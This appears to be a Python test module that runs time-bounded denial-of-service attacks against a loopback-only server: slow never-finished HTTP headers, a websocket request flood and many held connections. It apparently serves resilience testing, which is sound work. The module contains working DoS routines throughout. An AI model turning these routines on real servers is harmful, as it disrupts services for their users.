"""What one client on the office Wi-Fi can throw at the server, bounded, loopback only.

Each attack runs in a child process for ``seconds`` and then closes everything it opened:

- ``slow``: ``count`` connections that send request headers a few bytes at a time and never
  finish (a new one replaces each the server cuts);
- ``flood``: ``sockets`` websockets sending ``state`` requests as fast as the server takes them
  (reconnecting when closed);
- ``hold``: ``count`` websockets opened from one address and held open.

Only 127.0.0.0/8 targets are accepted.
"""

from __future__ import annotations

import multiprocessing
import socket
import time
from urllib.parse import urlsplit


def _target(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    if not parts.hostname.startswith("127."):
        raise ValueError("attacks run against loopback only")
    return parts.hostname, parts.port


def _open(host, port, source):
    sock = socket.create_connection((host, port), timeout=5, source_address=(source, 0))
    return sock


def _slow(url, count, seconds, source):
    host, port = _target(url)
    conns: list[socket.socket] = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(conns) < count:
            try:
                sock = _open(host, port, source)
                sock.sendall(b"POST /api/tickets HTTP/1.1\r\nHost: x\r\n")
                conns.append(sock)
            except OSError:
                break
        for sock in list(conns):
            try:
                sock.sendall(b"X")  # one more byte of a header that never ends
            except OSError:
                conns.remove(sock)
                sock.close()
        time.sleep(1)
    for sock in conns:
        sock.close()


def _websocket(host, port, source):
    from wsproto import ConnectionType, WSConnection
    from wsproto.events import Request

    sock = _open(host, port, source)
    ws = WSConnection(ConnectionType.CLIENT)
    sock.sendall(ws.send(Request(host=f"{host}:{port}", target="/socket.io/?EIO=4&transport=websocket")))
    return sock, ws


def _flood(url, sockets, seconds, source):
    from wsproto.events import TextMessage

    host, port = _target(url)
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        try:
            sock, ws = _websocket(host, port, source)
            sock.settimeout(2)
            ws.receive_data(sock.recv(65536))
            list(ws.events())
            sock.sendall(ws.send(TextMessage("40")))
            while time.monotonic() < end:
                sock.sendall(ws.send(TextMessage('42["state"]')))
                sent += 1
        except OSError:
            time.sleep(0.05)
    return sent


def _hold(url, count, seconds, source):
    host, port = _target(url)
    held = []
    for _ in range(count):
        try:
            held.append(_websocket(host, port, source)[0])
        except OSError:
            pass
    time.sleep(seconds)
    for sock in held:
        sock.close()


def start(kind: str, url: str, count: int, seconds: float, source: str) -> multiprocessing.Process:
    """Start one attack (``slow``, ``flood`` or ``hold``) in a child process."""
    target = {"slow": _slow, "hold": _hold}.get(kind)
    context = multiprocessing.get_context("fork")
    if kind == "flood":
        processes = [
            context.Process(target=_flood, args=(url, 1, seconds, source), daemon=True) for _ in range(count)
        ]
        for process in processes:
            process.start()
        return processes
    process = context.Process(target=target, args=(url, count, seconds, source), daemon=True)
    process.start()
    return [process]
